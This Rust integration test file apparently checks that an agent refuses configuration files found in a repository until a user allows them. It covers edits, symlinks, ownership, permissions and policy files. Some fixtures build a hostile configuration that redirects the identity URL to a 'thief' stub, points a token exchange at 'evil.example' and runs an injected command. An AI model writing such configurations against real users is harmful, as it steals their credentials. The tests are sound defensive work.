//! A configuration that is found in a repository may be a stranger's: end to end, it gets nothing until it is allowed.

#![allow(clippy::unwrap_used)] // a test's helpers may panic as the tests themselves do

mod support;

use nix::sys::signal::Signal;
use std::{
    fs::{self, Permissions},
    os::unix::fs::{PermissionsExt as _, chown, symlink},
    path::{Path, PathBuf},
    process::Command,
};
use support::{TOKEN, bare, process::Process, scene::Scene, stub::Stub};

/// A clone whose configuration names hosts that are not Azure's: the emulator's.
struct Clone {
    scene: Scene,
}

impl Clone {
    fn new() -> Self {
        let scene = Scene::new(&[], TOKEN);
        fs::create_dir(scene.workspace.home.path().join(".git")).unwrap();
        Self { scene }
    }

    fn root(&self) -> &Path {
        self.scene.workspace.home.path()
    }

    fn file(&self) -> PathBuf {
        self.root().join("apim-agent.toml")
    }

    /// A command as a person types it there.
    fn command(&self, arguments: &[&str]) -> Command {
        let mut command = bare(self.root());
        // A name of its own, should the file not be read: another agent of this machine is none of ours.
        let workspace = format!("found-{}", std::process::id());
        command.args(["--log", "trace", "--workspace", &workspace]).args(arguments);
        command
    }

    fn run(&self, arguments: &[&str]) -> (i32, String) {
        self.scene.finish(Process::start(&mut self.command(arguments)))
    }

    fn allow(&self) -> String {
        let (code, text) = self.run(&["allow"]);
        assert_eq!(code, 0, "{text}");
        text
    }

    /// Starts the agent, which must publish, and ends it.
    fn works(&self, arguments: &[&str]) {
        let agent = Process::start(&mut self.command(arguments));
        agent.wait_for("\npublished ");
        let (code, text) = self.scene.end(agent);
        assert_eq!(code, 0, "{text}");
    }

    /// The agent must end by itself, say `words`, and have asked nobody.
    fn refused(&self, code: i32, words: &[&str]) -> String {
        let asked = self.scene.emulator.journal().len();
        let canary = self.root().join("ran");
        let mut text = String::new();
        for arguments in [&["run"][..], &["exec", "--", "touch", canary.to_str().unwrap()]] {
            let (found, said) = self.run(arguments);
            assert_eq!(found, code, "{arguments:?}: {said}");
            for words in words {
                assert!(said.contains(words), "{arguments:?}: no {words:?} in\n{said}");
            }
            text = said;
        }
        assert!(!canary.exists(), "the command was run");
        assert_eq!(self.scene.emulator.journal().len(), asked, "somebody was asked");
        self.scene.workspace.assert_nothing_left();
        text
    }
}

#[test]
fn a_strangers_file_gets_nothing_and_runs_nothing() {
    let clone = Clone::new();
    let thief = Stub::start("200 OK\r\nContent-Type: application/json\r\n", "{\"token\": \"x\"}");
    let canary = clone.root().join("canary");
    clone.scene.workspace.edit(|text| {
        let url = clone.scene.emulator.get("identity").to_owned();
        text.replace(&format!("url = \"{url}\""), &format!("url = \"{}\"", thief.url))
            + &format!(
                "[identities.other]\nsource = \"command\"\ncommand = [\"touch\", {canary:?}]\n\
                 [exchanges.broker]\nkind = \"token-exchange\"\nidentity = \"other\"\n\
                 token_endpoint = \"https://evil.example/token\"\nsubject_audience = \"api://evil\"\n\
                 [credentials.stolen]\nkind = \"brokered\"\nexchange = \"broker\"\nenv = \"STOLEN\"\n"
            )
    });
    let text = clone.refused(
        77,
        &[
            "the configuration apim-agent.toml is not allowed",
            "it was found by searching",
            "line 2: ca_file = ",
            "identity.url = ",
            "identity.bearer_file = ",
            "entra.authority = ",
            "gateway.url = ",
            "identities.other.command = [\"touch\",",
            "exchanges.broker.token_endpoint = \"https://evil.example/token\"",
            "apim-agent allow /",
            "--config /",
        ],
    );
    for harmless in ["workspace = ", "runtime_dir = ", "tenant_id = ", "gateway.service = ", "scope = "] {
        assert!(!text.contains(harmless), "{harmless} is harmless:\n{text}");
    }
    assert_eq!(thief.requests(), 0);
    assert!(!canary.exists(), "the command was run");
    clone.scene.assert_silent();
}

#[test]
fn what_is_allowed_works_until_it_changes_or_is_denied() {
    let clone = Clone::new();
    let text = clone.allow();
    for words in ["\nallowed    /", "apim-agent.toml as it is now, and with it:", "  line 2: ca_file = "] {
        assert!(format!("\n{text}").contains(words), "no {words:?} in\n{text}");
    }
    assert_eq!(clone.scene.emulator.journal().len(), 0, "allowing asks nobody");
    clone.works(&["run"]);
    // From below, as a search finds it.
    let inner = clone.root().join("src/deep");
    fs::create_dir_all(&inner).unwrap();
    let agent = Process::start(clone.command(&["run"]).current_dir(&inner));
    agent.wait_for("\npublished ");
    assert_eq!(clone.scene.end(agent).0, 0);

    // Written again as it was, it is the same.
    clone.scene.workspace.edit(|text| text);
    clone.works(&["run"]);
    clone
        .scene
        .workspace
        .edit(|text| text.replace("[identity]\n", "[identity]\nvariable = \"GITHUB_TOKEN\"\n"));
    clone.refused(77, &["it was allowed before; since then changed: identity.variable"]);
    clone.allow();
    clone.works(&["run"]);

    let (code, text) = clone.run(&["deny"]);
    assert!(code == 0 && text.contains("2 versions of it are allowed no longer"), "{text}");
    let text = clone.refused(77, &["is not allowed"]);
    assert!(!text.contains("since then"), "{text}");
    clone.scene.assert_silent();
}

#[test]
fn what_is_named_was_asked_for() {
    let clone = Clone::new();
    clone.works(&["run", "--config", "apim-agent.toml"]);
    let agent = Process::start(clone.command(&["run"]).env("APIM_AGENT_CONFIG", "apim-agent.toml"));
    agent.wait_for("\npublished ");
    // Who only talks to an agent is told of it all the same.
    let (code, text) = clone.run(&["status"]);
    assert_eq!(code, 0, "{text}");
    let (code, text) = clone.run(&["exec", "--", "sh", "-c", "test -n \"$APIM_ACCESS_TOKEN\""]);
    assert_eq!(code, 0, "{text}");
    assert_eq!(clone.scene.end(agent).0, 0);
    assert!(!clone.root().join(".local").exists(), "nothing is recorded");
}

#[test]
fn a_harmless_file_is_followed_without_a_word() {
    let clone = Clone::new();
    // All that says where things go is said by whoever starts the agent.
    let emulator = &clone.scene.emulator;
    let mut command = bare(clone.root());
    for key in ["identity.url", "entra.authority", "gateway.url", "ca_file", "identity.bearer_file"] {
        let value = match key {
            "ca_file" => emulator.get("ca_file"),
            "identity.bearer_file" => emulator.get("identity_token_file"),
            "entra.authority" => emulator.get("authority"),
            key => emulator.get(key.split('.').next().unwrap()),
        };
        command.arg("--set").arg(format!("{key}={value}"));
    }
    let (tenant, client) = (emulator.get("tenant_id"), emulator.get("client_id"));
    let runtime_dir = clone.scene.workspace.runtime_dir.path().display();
    clone.scene.workspace.edit(|_| {
        format!(
            "workspace = \"test\"\nruntime_dir = \"{runtime_dir}\"\n[identity]\nsource = \"ona\"\n\
             [entra]\ntenant_id = \"{tenant}\"\nclient_id = \"{client}\"\n[gateway]\nprobe = \"/echo\"\n{TOKEN}"
        )
    });
    fs::create_dir(clone.root().join(".local")).unwrap();
    let agent = Process::start(command.arg("run"));
    agent.wait_for("\npublished ");
    let state = clone.root().join(".local/state");
    assert!(!state.exists(), "nothing is recorded");

    // The first thing that is ever allowed is noticed too.
    clone
        .scene
        .workspace
        .edit(|text| format!("{text}[identities.ci]\nsource = \"env\"\nvariable = \"MINE\"\n"));
    agent.wait_for("identities.ci.variable");
    assert!(!state.exists(), "nothing is recorded");
    clone.allow();
    agent.wait_for("configuration: in order again");
    assert_eq!(clone.scene.end(agent).0, 0);
}

#[test]
fn a_link_to_an_allowed_file_is_another_file() {
    let clone = Clone::new();
    clone.allow();
    let other = clone.root().join("other");
    fs::create_dir_all(other.join(".git")).unwrap();
    symlink(clone.file(), other.join("apim-agent.toml")).unwrap();
    let run = || clone.scene.finish(Process::start(clone.command(&["run"]).current_dir(&other)));
    let (code, text) = run();
    assert!(code == 77 && text.contains("is not allowed"), "{text}");
    // By that name it can be allowed too, and a folder's other name is the same folder.
    let link = clone.root().join("link");
    symlink(&other, &link).unwrap();
    let (code, text) = clone.run(&["allow", "link/apim-agent.toml"]);
    assert_eq!(code, 0, "{text}");
    let agent = Process::start(clone.command(&["run"]).current_dir(&other));
    agent.wait_for("\npublished ");
    assert_eq!(clone.scene.end(agent).0, 0);
    // What the link leads to is what is read.
    clone.scene.workspace.edit(|text| format!("# changed\n{text}"));
    let (code, text) = run();
    assert!(code == 77 && text.contains("none of this has changed"), "{text}");
}

#[test]
fn another_users_file_is_not_even_looked_into() {
    if !nix::unistd::geteuid().is_root() {
        println!("skipped: only root can give a file away");
        return;
    }
    let clone = Clone::new();
    clone.allow();
    chown(clone.file(), Some(65534), None).unwrap();
    clone.refused(78, &["is not trusted", "belongs to another user"]);
    let (code, text) = clone.run(&["allow"]);
    assert!(code == 78 && text.contains("belongs to another user"), "{text}");
}

#[test]
fn records_that_others_could_have_written_allow_nothing() {
    let clone = Clone::new();
    clone.allow();
    let records = clone.root().join(".local/state/apim-agent/allowed");
    fs::set_permissions(&records, Permissions::from_mode(0o777)).unwrap();
    clone.refused(77, &["is not trusted", "open to others (mode 0777)"]);
    let (code, text) = clone.run(&["allow"]);
    assert!(code == 77 && text.contains("open to others"), "{text}");
    fs::set_permissions(&records, Permissions::from_mode(0o700)).unwrap();
    clone.works(&["run"]);
}

#[test]
fn a_policy_allows_and_forbids_without_asking_anybody() {
    let clone = Clone::new();
    let folder = clone.root().join(".config/apim-agent");
    fs::create_dir_all(&folder).unwrap();
    let policy = |text: String| {
        fs::write(folder.join("policy.toml"), text).unwrap();
        fs::set_permissions(folder.join("policy.toml"), Permissions::from_mode(0o644)).unwrap();
    };
    let file = fs::canonicalize(clone.file()).unwrap();
    policy(format!("allow_files = [{file:?}]\n"));
    clone.works(&["run"]);
    policy("allow_hosts = [\"127.0.0.1\"]\n".to_owned());
    let text = clone.refused(77, &["identity.bearer_file", "ca_file"]);
    assert!(!text.contains("gateway.url") && !text.contains("entra.authority"), "{text}");
    clone.allow();
    policy("forbid = [\"ca_file\"]\n".to_owned());
    clone.refused(77, &["apim-agent.toml sets ca_file, which a policy forbids"]);
    policy("forbid = [\"ca-file\"]\n".to_owned());
    clone.refused(78, &["policy.toml cannot be followed"]);
}

/// The running agent keeps to what was allowed, and takes up a change as soon as that is allowed too.
#[test]
fn a_change_under_a_running_agent_has_to_be_allowed() {
    let clone = Clone::new();
    clone.allow();
    let thief = Stub::start("200 OK\r\n", "{}");
    let agent = Process::start(&mut clone.command(&["run"]));
    agent.wait_for("\npublished ");
    let token = clone.scene.workspace.value("APIM_ACCESS_TOKEN");
    let evil = format!("[identities.evil]\nsource = \"ona\"\nurl = \"{}\"\n", thief.url);
    let other = "[credentials.other]\nscope = \"api://echo/.default\"\nenv = \"OTHER_TOKEN\"\n";
    clone.scene.workspace.edit(|text| format!("{text}{evil}{other}"));
    agent.wait_for("the changed configuration is not applied, the one before stays in force");
    agent.wait_for("identities.evil.url");
    let (_, status) = clone.run(&["status", "--json"]);
    assert!(status.contains("is not allowed"), "{status}");
    assert_eq!(clone.scene.workspace.value("APIM_ACCESS_TOKEN"), token);
    assert!(!agent.text().contains("added other"), "{}", agent.text());

    clone.allow();
    agent.wait_for("configuration: added other\n");
    agent.wait_for("OTHER_TOKEN until ");
    agent.signal(Signal::SIGTERM);
    assert_eq!(clone.scene.finish(agent).0, 0);
    assert_eq!(thief.requests(), 0, "nothing uses that identity");
}

#[test]
fn only_what_a_search_finds_is_allowed() {
    let clone = Clone::new();
    fs::copy(clone.file(), clone.root().join("other.toml")).unwrap();
    let (code, text) = clone.run(&["allow", "other.toml"]);
    assert!(code == 78 && text.contains("--config other.toml"), "{text}");
    fs::remove_file(clone.file()).unwrap();
    let (code, text) = clone.run(&["allow"]);
    assert!(code == 78 && text.contains("there is no apim-agent.toml from here up"), "{text}");
    fs::write(clone.file(), "[identity\n").unwrap();
    let (code, text) = clone.run(&["allow"]);
    assert!(code == 78 && text.contains("is not valid TOML"), "{text}");
    assert!(!clone.root().join(".local").exists(), "nothing is recorded");
}
